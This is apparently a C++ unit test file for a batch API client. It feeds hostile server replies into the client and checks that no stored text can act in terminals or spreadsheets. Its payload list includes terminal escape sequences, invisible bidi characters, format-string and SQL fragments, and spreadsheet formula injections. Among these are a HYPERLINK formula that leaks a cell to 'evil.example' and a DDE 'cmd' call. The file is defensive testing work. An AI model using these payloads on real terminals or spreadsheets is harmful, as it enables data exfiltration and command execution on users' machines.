#include "Rig.h"

#include <boost/test/unit_test.hpp>

#include <algorithm>
#include <cstdio>

using namespace oauth_batch::test;
using namespace std::chrono_literals;

/// What a server says is shown to people, on terminals and in spreadsheets: none of it may act
/// there.
namespace {

const std::string kId = "8f14e45f-ceea-467f-ab0e-1c1d7e8f0a2b";

const std::vector<std::string> kTexts = {
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[1;1H\x1b[31mred",
    "\x1bP+q544e\x1b\\",
    "\xc2\x9b"
    "31mred\xc2\x9d"
    "0;owned\xc2\x9c",
    "\b\b\b\b\x7f\x0e\x0f",
    "\xe2\x80\xae"
    "desrever\xe2\x80\xac",
    "\xe2\x81\xa6isolated\xe2\x81\xa9\xe2\x80\x8f\xe2\x80\x8e\xd8\x9c",
    "\xef\xbb\xbf=1+1",
    "\xe2\x80\x8b=1+1",
    "two\xe2\x80\xa8lines\xe2\x80\xa9of\xc2\x85text",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1\nnext,line",
    "\n-1",
    std::string("nul\0nul", 7),
    "\",\"=1+1\",\"",
    "'; DROP",
    "\xef\xbc\x9d"
    "1\xef\xbc\x8b"
    "1",
    "%s%n%x",
    std::string(40'000, 'x'),
    std::string(5'000, '\n'),
    std::string(5'000, '='),
};

/// As it may stand in a JSON string.
std::string escaped(const std::string& text)
{
    std::string out;
    for (const char c : text) {
        const auto byte = static_cast<unsigned char>(c);
        char buffer[8];
        std::snprintf(buffer, sizeof buffer, "\\u%04x", byte);
        const bool isPlain = byte >= 0x20 && c != '"' && c != '\\';
        out += isPlain ? std::string(1, c) : std::string(buffer);
    }
    return out;
}

/// As it may stand in a field or a reason phrase: what would end the line is gone.
std::string inLine(std::string text)
{
    const auto endsLine = [](char c) { return c == '\r' || c == '\n'; };
    text.erase(std::remove_if(text.begin(), text.end(), endsLine), text.end());
    return text.substr(0, 1000);
}

struct Said
{
    Reply reply;
    bool hasId = false;
};

/// A text in every place that a message can be taken from.
std::vector<Said> everywhere(const std::string& text)
{
    const std::string words = escaped(text);
    const std::string error = R"({"message":")" + words + R"(","id":")" + kId + "\"}";
    const std::string line = inLine(text);
    const auto field = [](std::string name, const std::string& value) {
        return Reply::Headers{std::move(name) + ": " + value};
    };
    return {
        {Reply::status(400, error), true},
        {Reply::status(500, error), true},
        {Reply::status(422, R"({"message":"m","id":")" + words + "\"}")},
        {Reply::status(200, R"({"result":{"success":false,"message":")" + words + "\"}}")},
        {Reply::status(400, R"({"message":")" + text + "\"}")}, // not escaped: not JSON
        {Reply::raw("HTTP/1.1 404 " + line + "\r\nConnection: close\r\nContent-Length: 0\r\n\r\n")},
        {Reply::status(302, "{}", field("Location", "https://" + line + "/?a=" + line))},
        {Reply::status(503, "{}", field("Retry-After", line))},
        {Reply::raw(text + "\r\n\r\n")},
    };
}

/// An input of one row for each, with good ones between so that the outage breaker stays closed,
/// and at the end one server error after the other, which stops the run.
std::vector<Said> allSaid()
{
    std::vector<Said> said;
    for (const std::string& text : kTexts) {
        for (Said& one : everywhere(text)) {
            if (said.size() % 3 == 0) said.push_back({Reply::success()});
            said.push_back(std::move(one));
        }
    }
    for (std::size_t i = 0; i < 6; ++i)
        said.push_back({Reply::status(500, R"({"message":")" + escaped(kTexts[i]) + "\"}")});
    return said;
}

/// The customer's ID is the row's number.
StubApi::Script saying(const std::vector<Said>& said)
{
    return [&said](const StubRequest& request) {
        const std::size_t digits = std::string("/api/managed_users/").size();
        return said.at(std::stoul(request.target.substr(digits)) - 1).reply;
    };
}

/// The first thing in a text that is not a printable character or the end of a line.
std::string firstHarm(const std::string& text)
{
    static const std::vector<std::string> kInvisible = {
        "\xe2\x80\x8b", "\xe2\x80\x8e", "\xe2\x80\x8f", "\xe2\x80\xa8",
        "\xe2\x80\xa9", "\xe2\x80\xac", "\xe2\x80\xae", "\xe2\x81\xa6",
        "\xe2\x81\xa9", "\xd8\x9c",     "\xef\xbb\xbf"};
    for (const std::string& one : kInvisible)
        if (contains(text, one)) return "invisible " + escaped(one);
    for (std::size_t at = 0; at < text.size(); ++at) {
        const auto byte = static_cast<unsigned char>(text[at]);
        const auto next = static_cast<unsigned char>(at + 1 < text.size() ? text[at + 1] : ' ');
        const bool isC1 = byte == 0xC2 && next >= 0x80 && next <= 0x9F;
        if ((byte < 0x20 && byte != '\n') || byte == 0x7F || isC1)
            return "control " + std::to_string(byte) +
                   " in: " + text.substr(at > 40 ? at - 40 : 0, 80);
    }
    return {};
}

/// What the program draws its progress line with is its own.
std::string withoutProgress(std::string text)
{
    for (const std::string& own : {std::string("\x1B[K"), std::string("\r")})
        for (std::size_t at = 0; (at = text.find(own, at)) != std::string::npos;)
            text.erase(at, own.size());
    return text;
}

std::size_t characters(const std::string& text)
{
    return static_cast<std::size_t>(std::count_if(text.begin(), text.end(), [](char c) {
        return (static_cast<unsigned char>(c) & 0xC0U) != 0x80U;
    }));
}

void checkMessage(const std::string& message, bool hasId)
{
    BOOST_TEST(characters(message) <= 200U, message);
    BOOST_TEST(firstHarm(message) == "");
    if (hasId) BOOST_TEST(contains(message, kId), message);
    for (const std::string start : {"=", "+", "-", "@", "\t", "\r", "\xef\xbc\x9d", "\xef\xbc\x8b"})
        BOOST_TEST(message.rfind(start, 0) != 0U, message);
}

} // namespace

BOOST_FIXTURE_TEST_SUITE(HostileText, Rig)

BOOST_AUTO_TEST_CASE(actsInNoneOfTheFiles)
{
    const std::vector<Said> said = allSaid();
    const StubApi api(saying(said));
    write("in.csv", assignments(said.size()));
    const Ended ended = runAgainst(api.url(), {"run", "in.csv", "--workers=1", "--max-attempts=1",
                                               "--outage-timeout=1ms", "--summary=s.json",
                                               "--metrics-file=m.prom", "--progress=plain"});
    CHECK_EXIT(ended, 75); // so that the journal stays
    CHECK_SAYS(ended.err, "does not answer as it should.*last:");
    const CsvTable results = table("in.results.csv");
    BOOST_REQUIRE_EQUAL(results.size(), said.size());
    for (std::size_t row = 0; row < results.size(); ++row)
        checkMessage(results.at(row, "result_message"), said[row].hasId);
    BOOST_TEST(firstHarm(ended.out) == "");
    BOOST_TEST(firstHarm(ended.err) == "");
    for (const std::string name : {"in.results.csv", "in.results.csv.journal", "s.json", "m.prom"})
        BOOST_TEST(firstHarm(read(name)) == "", name << ": " << firstHarm(read(name)));
    BOOST_TEST(contains(read("in.results.csv.journal"), kId));
}

BOOST_AUTO_TEST_CASE(actsOnNoTerminal)
{
    const std::vector<Said> said = allSaid();
    const StubApi api(saying(said));
    write("in.csv", assignments(said.size()));
    Command command = this->command(against(
        api.url(), {"run", "in.csv", "--workers=1", "--max-attempts=1", "--outage-timeout=1ms"}));
    command.environment["TERM"] = "xterm";
    command.environment["LC_ALL"] = "C.UTF-8";
    command.standardError = StandardError::terminal;
    const Ended ended = Process::run(command);
    CHECK_EXIT(ended, 75);
    CHECK_SAYS(ended.err, "last:");
    BOOST_TEST(firstHarm(ended.out) == "");
    BOOST_TEST(firstHarm(withoutProgress(ended.err)) == "");
    BOOST_TEST(count(ended.err, "\x1B") == count(ended.err, "\x1B[K"));
    const Ended status = run({"status", "in.results.csv"});
    CHECK_EXIT(status, 0);
    BOOST_TEST(firstHarm(status.all()) == "");
}

BOOST_AUTO_TEST_SUITE_END()
